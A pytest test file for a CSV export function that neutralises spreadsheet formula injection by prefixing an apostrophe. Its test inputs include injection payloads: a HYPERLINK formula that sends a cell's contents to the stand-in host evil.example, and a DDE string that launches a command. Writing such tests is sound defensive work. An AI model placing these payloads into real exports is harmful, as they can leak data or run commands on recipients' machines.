"""What a spreadsheet would take for a formula is a text again once it is exported."""

import pytest

from domain.shared.csv_output import escape_formula


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?x="&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "-",
        "+",
        " =1",
        "|calc",
        "%x",
        "1e5"[:0] + "=x",
    ],
)
def test_a_text_that_begins_as_a_formula_gets_an_apostrophe(formula):
    assert escape_formula(formula) == "'" + formula


@pytest.mark.parametrize("plain", ["Ann", "", "O'Neil", "a=b", "3", "-3", "+3.5", "-.5", "1e-9", "-1E+4", " a"])
def test_other_texts_and_texts_that_are_numbers_stay(plain):
    assert escape_formula(plain) == plain


def test_numbers_stay_numbers_and_null_is_empty():
    assert [escape_formula(v) for v in (-3, 0, -2.5, None)] == [-3, 0, -2.5, ""]


def test_digits_of_other_scripts_are_no_number():
    assert escape_formula("-٣") == "'-٣"
